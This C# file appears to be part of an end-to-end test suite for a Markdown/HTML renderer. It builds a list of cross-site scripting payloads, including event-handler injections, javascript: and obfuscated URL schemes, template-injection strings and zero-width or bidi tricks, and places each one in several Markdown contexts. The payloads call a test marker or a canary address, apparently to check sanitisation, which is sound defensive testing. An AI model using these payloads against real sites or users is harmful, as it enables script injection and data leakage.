namespace Parley.EndToEnd.Tests.Console;

/// <summary>
/// What somebody writes who wants a reader's browser to run something or to tell something to another server: families of payloads, each in
/// every context. <c>proof()</c> counts what ran; the canary counts who asked.
/// </summary>
public static class Payloads
{
    private static readonly string[] Families =
    [
        "<script>proof()</script>", "<script src=CANARY/s.js></script>", "<img src=x onerror=proof()>", "<img src=CANARY/i.png>", "<svg onload=proof()>", "<svg><script>proof()</script></svg>",
        "<svg><animate onbegin=proof() attributeName=x dur=1s>", "<iframe src=javascript:proof()></iframe>", "<iframe srcdoc='<script>parent.proof()</script>'></iframe>", "<iframe src=CANARY/f></iframe>",
        "<object data=CANARY/o></object>", "<embed src=CANARY/e>", "<video><source onerror=proof()></video>", "<audio src=CANARY/a autoplay></audio>", "<body onload=proof()>", "<input autofocus onfocus=proof()>",
        "<details open ontoggle=proof()>x</details>", "<marquee onstart=proof()>x</marquee>", "<style>@import 'CANARY/c.css';</style>", "<link rel=stylesheet href=CANARY/l.css>", "<link rel=prefetch href=CANARY/p>",
        "<meta http-equiv=refresh content='0;url=CANARY/m'>", "<base href=CANARY/>", "<form action=CANARY/f><button autofocus>x</button></form>", "<math><mtext><img src=x onerror=proof()></mtext></math>",
        "<template><img src=x onerror=proof()></template>", "<noscript><img src=x onerror=proof()></noscript>", "<textarea><img src=x onerror=proof()></textarea>", "\"><img src=x onerror=proof()>", "'-proof()-'",
        "${proof()}", "{{constructor.constructor('proof()')()}}", "[a](javascript:proof())", "[a](JaVaScRiPt:proof())", "[a](java\tscript:proof())", "[a](data:text/html,<script>opener.proof()</script>)", "[a](vbscript:proof())",
        "![a](CANARY/x.png)", "![a](javascript:proof())", "![a][r]\n\n[r]: CANARY/r.png", "<CANARY/auto>", "[a](<CANARY/x\" onmouseover=\"proof()>)", "[a](CANARY/x 'onmouseover=proof()')", "```html\n<script>proof()</script>\n```",
        "| a |\n|---|\n| <img src=x onerror=proof()> |", "- [x] <img src=CANARY/task.png>", "<div style=\"background:url(CANARY/bg)\">x</div>", "<p style='behavior:url(CANARY/h)'>x</p>", "<a href=CANARY/ping ping=CANARY/ping autofocus>x</a>",
        "<img srcset='CANARY/1.png 1x'>", "<picture><source srcset=CANARY/2.png><img></picture>", "<script type=module>import 'CANARY/m.js'</script>", "<img src=`x`onerror=proof()>", "<isindex type=image src=1 onerror=proof()>",
        "[^1]\n\n[^1]: <script>proof()</script>", "<!--><script>proof()</script>-->", "<![CDATA[<script>proof()</script>]]>", "&lt;script&gt;proof()&lt;/script&gt;", "\u202e<script>proof()</script>\u2066", "<scr\u200bipt>proof()</scr\u200bipt>",
    ];

    private static readonly Func<string, string>[] Contexts =
    [
        payload => payload, payload => "# " + payload, payload => "> " + payload, payload => "1. " + payload, payload => $"**{payload}**", payload => $"Text before {payload} and behind",
        payload => $"[{payload}](https://example.org)", payload => $"| {payload.ReplaceLineEndings(" ")} | b |\n|---|---|\n| c | {payload.ReplaceLineEndings(" ")} |", payload => $"<div>\n\n{payload}\n\n</div>",
    ];

    /// <summary>All of them, for a canary at that address.</summary>
    public static IReadOnlyList<string> All(string canary) =>
        [.. Families.SelectMany(payload => Contexts.Select(context => context(payload.Replace("CANARY", canary, StringComparison.Ordinal))))];
}
